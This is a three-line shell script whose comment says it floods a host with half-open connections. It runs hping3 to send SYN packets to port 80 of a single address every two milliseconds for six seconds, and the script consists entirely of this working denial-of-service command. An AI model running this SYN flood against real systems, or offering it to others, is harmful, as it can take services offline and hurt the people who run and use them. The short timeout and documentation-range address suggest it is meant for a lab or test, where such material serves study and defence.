#!/bin/sh
# Floods a host with half-open connections.
timeout 6 hping3 -S -p 80 -i u2000 203.0.113.80
